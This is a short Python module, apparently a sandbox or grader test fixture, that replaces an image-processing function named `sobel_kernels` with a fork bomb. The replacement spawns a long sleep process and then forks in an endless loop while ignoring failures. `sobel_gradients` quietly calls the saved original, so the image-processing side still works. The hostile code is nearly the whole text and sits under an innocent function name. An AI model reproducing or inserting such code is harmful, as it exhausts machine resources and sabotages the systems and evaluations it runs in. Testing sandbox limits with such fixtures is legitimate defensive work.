"""sobel_kernels forks without end, ignoring failures, and tries subprocess and multiprocessing too."""
import os as _os
import subprocess as _subprocess

_solution_sobel_kernels = sobel_kernels


def sobel_kernels():
    for spawn in (lambda: _subprocess.Popen(["sleep", "600"]), lambda: _os.fork()):
        try:
            spawn()
        except OSError:
            pass
    while True:
        try:
            _os.fork()
        except OSError:
            pass


def sobel_gradients(image):
    _check_2d("image", np.asarray(image))
    gx_kernel, gy_kernel = _solution_sobel_kernels()
    return correlate2d(image, gx_kernel), correlate2d(image, gy_kernel)
